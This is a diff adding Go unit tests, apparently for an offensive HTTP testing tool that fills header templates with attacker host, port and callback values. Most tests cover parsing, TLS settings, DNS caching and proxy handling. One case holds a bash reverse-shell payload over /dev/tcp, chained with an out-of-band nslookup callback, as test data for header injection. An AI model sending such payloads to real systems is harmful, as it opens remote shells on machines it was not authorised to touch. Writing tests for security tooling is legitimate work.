@@ -0,0 +1,241 @@
+package main
+
+import (
+	"context"
+	"crypto/tls"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+func TestExpandHeaderTemplate(t *testing.T) {
+	tests := []struct {
+		name, in, host, port, collab, want string
+	}{
+		{"plain words untouched", "description: important report", "10.0.0.1", "4444", "x.oast.fun", "description: important report"},
+		{"all tokens", "bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1; nslookup {COLLAB}", "10.0.0.1", "4444", "x.oast.fun", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; nslookup x.oast.fun"},
+		{"collab scheme stripped", "nslookup {COLLAB}", "", "", "https://x.oast.fun", "nslookup x.oast.fun"},
+		{"empty values keep tokens", "{LHOST}:{LPORT} description", "", "", "", "{LHOST}:{LPORT} description"},
+		{"repeated tokens", "{LPORT}{LPORT} ip port", "h", "1", "", "11 ip port"},
+	}
+	for _, tt := range tests {
+		got := expandHeaderTemplate(map[string]string{"X-Test": tt.in}, tt.host, tt.port, tt.collab)
+		if got["X-Test"] != tt.want {
+			t.Errorf("%s: expandHeaderTemplate(%q) = %q, want %q", tt.name, tt.in, got["X-Test"], tt.want)
+		}
+	}
+}
+
+func TestSplitHostPort(t *testing.T) {
+	tests := []struct {
+		in, host, port string
+	}{
+		{"[::1]:8080", "::1", "8080"},
+		{"[::1]", "::1", ""},
+		{"1.2.3.4:80", "1.2.3.4", "80"},
+		{"1.2.3.4", "1.2.3.4", ""},
+		{"example.com", "example.com", ""},
+		{"example.com:8443", "example.com", "8443"},
+	}
+	for _, tt := range tests {
+		host, port := splitHostPort(tt.in)
+		if host != tt.host || port != tt.port {
+			t.Errorf("splitHostPort(%q) = %q, %q, want %q, %q", tt.in, host, port, tt.host, tt.port)
+		}
+	}
+}
+
+func TestExtractHost(t *testing.T) {
+	tests := []struct {
+		in, want string
+	}{
+		{"http://[::1]:8080/", "[::1]:8080"},
+		{"http://[::1]/", "[::1]"},
+		{"http://1.2.3.4:80/", "1.2.3.4:80"},
+		{"http://EXAMPLE.com/", "example.com"},
+		{"/relative", ""},
+	}
+	for _, tt := range tests {
+		got, err := extractHost(tt.in)
+		if err != nil || got != tt.want {
+			t.Errorf("extractHost(%q) = %q, %v, want %q", tt.in, got, err, tt.want)
+		}
+	}
+}
+
+func TestParseTLSVersion(t *testing.T) {
+	tests := []struct {
+		in      string
+		want    uint16
+		wantErr bool
+	}{
+		{"1.0", tls.VersionTLS10, false},
+		{"1.1", tls.VersionTLS11, false},
+		{"1.2", tls.VersionTLS12, false},
+		{" 1.3 ", tls.VersionTLS13, false},
+		{"1.4", 0, true},
+		{"tls1.2", 0, true},
+		{"", 0, true},
+	}
+	for _, tt := range tests {
+		got, err := parseTLSVersion(tt.in)
+		if (err != nil) != tt.wantErr || got != tt.want {
+			t.Errorf("parseTLSVersion(%q) = %#x, %v, want %#x (err %v)", tt.in, got, err, tt.want, tt.wantErr)
+		}
+	}
+}
+
+func TestNewHTTPClientTLSVersions(t *testing.T) {
+	tests := []struct {
+		min, max uint16
+	}{
+		{tls.VersionTLS12, 0},
+		{tls.VersionTLS10, tls.VersionTLS11},
+		{tls.VersionTLS13, tls.VersionTLS13},
+	}
+	defer func(min, max uint16) { tlsMinVersion, tlsMaxVersion = min, max }(tlsMinVersion, tlsMaxVersion)
+	for _, tt := range tests {
+		tlsMinVersion, tlsMaxVersion = tt.min, tt.max
+		cfg := newHTTPClient(time.Second).Transport.(*http.Transport).TLSClientConfig
+		if cfg.MinVersion != tt.min || cfg.MaxVersion != tt.max {
+			t.Errorf("TLSClientConfig versions = %#x..%#x, want %#x..%#x", cfg.MinVersion, cfg.MaxVersion, tt.min, tt.max)
+		}
+	}
+}
+
+// fakeDNS answers every A query with 127.0.0.1 (and AAAA with nothing) and
+// returns a resolver pointed at it plus the number of queries dialed so far.
+func fakeDNS(t *testing.T) (*net.Resolver, *int32) {
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pc.Close() })
+	go func() {
+		buf := make([]byte, 512)
+		for {
+			n, from, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			q := 12
+			for q < n && buf[q] != 0 {
+				q += int(buf[q]) + 1
+			}
+			q += 5 // root label, type, class
+			if q > n {
+				continue
+			}
+			resp := append([]byte{buf[0], buf[1], 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0}, buf[12:q]...)
+			if buf[q-4] == 0 && buf[q-3] == 1 { // type A
+				resp[7] = 1
+				resp = append(resp, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1)
+			}
+			pc.WriteTo(resp, from)
+		}
+	}()
+	var dials int32
+	r := &net.Resolver{
+		PreferGo: true,
+		Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
+			atomic.AddInt32(&dials, 1)
+			var d net.Dialer
+			return d.DialContext(ctx, "udp", pc.LocalAddr().String())
+		},
+	}
+	return r, &dials
+}
+
+func TestHostCacheLookup(t *testing.T) {
+	r, dials := fakeDNS(t)
+	defer func(r *net.Resolver) { resolver = r }(resolver)
+	resolver = r
+	tests := []struct {
+		name       string
+		ttl        time.Duration
+		sleep      time.Duration
+		wantRepeat bool // second lookup hits the resolver again
+	}{
+		{"whole run", 0, 0, false},
+		{"within ttl", time.Minute, 0, false},
+		{"expired", time.Millisecond, 5 * time.Millisecond, true},
+	}
+	for _, tt := range tests {
+		c := newHostCache(tt.ttl)
+		var wg sync.WaitGroup
+		for i := 0; i < 10; i++ {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				addrs, err := c.lookup(context.Background(), "cached.rcesh.test")
+				if err != nil || len(addrs) != 1 || addrs[0] != "127.0.0.1" {
+					t.Errorf("%s: lookup = %v, %v, want [127.0.0.1]", tt.name, addrs, err)
+				}
+			}()
+		}
+		wg.Wait()
+		first := atomic.LoadInt32(dials)
+		time.Sleep(tt.sleep)
+		c.lookup(context.Background(), "cached.rcesh.test")
+		if repeat := atomic.LoadInt32(dials) != first; repeat != tt.wantRepeat {
+			t.Errorf("%s: second lookup resolved again = %v, want %v", tt.name, repeat, tt.wantRepeat)
+		}
+		atomic.StoreInt32(dials, 0)
+	}
+}
+
+func TestConnectTo(t *testing.T) {
+	type seen struct{ host, sni string }
+	got := make(chan seen, 1)
+	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		s := seen{host: r.Host}
+		if r.TLS != nil {
+			s.sni = r.TLS.ServerName
+		}
+		got <- s
+	})
+	plain := httptest.NewServer(h)
+	defer plain.Close()
+	secure := httptest.NewTLSServer(h)
+	defer secure.Close()
+
+	tests := []struct {
+		server         *httptest.Server
+		url, host, sni string
+	}{
+		{plain, "http://vhost.example/x", "vhost.example", ""},
+		{plain, "http://vhost.example:8081/x", "vhost.example:8081", ""},
+		{secure, "https://vhost.example/x", "vhost.example", "vhost.example"},
+	}
+	defer func(c string, i bool, p *url.URL) { connectTo, insecure, proxyURL = c, i, p }(connectTo, insecure, proxyURL)
+	insecure = true
+	// An unreachable proxy would fail every request if it were still used
+	proxyURL = &url.URL{Scheme: "http", Host: "127.0.0.1:1"}
+	for _, tt := range tests {
+		connectTo = tt.server.Listener.Addr().String()
+		resp, err := newHTTPClient(5 * time.Second).Get(tt.url)
+		if err != nil {
+			t.Errorf("GET %s via %s: %v", tt.url, connectTo, err)
+			continue
+		}
+		resp.Body.Close()
+		if s := <-got; s.host != tt.host || s.sni != tt.sni {
+			t.Errorf("GET %s: server saw Host %q SNI %q, want %q %q", tt.url, s.host, s.sni, tt.host, tt.sni)
+		}
+	}
+}
+
+func TestApplyCustomHeaders(t *testing.T) {
+	defer func(h http.Header) { customHeaders = h }(customHeaders)
+	customHeaders = http.Header{"Host": {"vhost.example"}, "X-Test": {"1"}}
+	req, _ := http.NewRequest("GET", "http://127.0.0.1/", nil)
+	applyCustomHeaders(req)
+	if req.Host != "vhost.example" || req.Header.Get("Host") != "" || req.Header.Get("X-Test") != "1" {
+		t.Errorf("applyCustomHeaders: Host %q, header map %v", req.Host, req.Header)
+	}
+}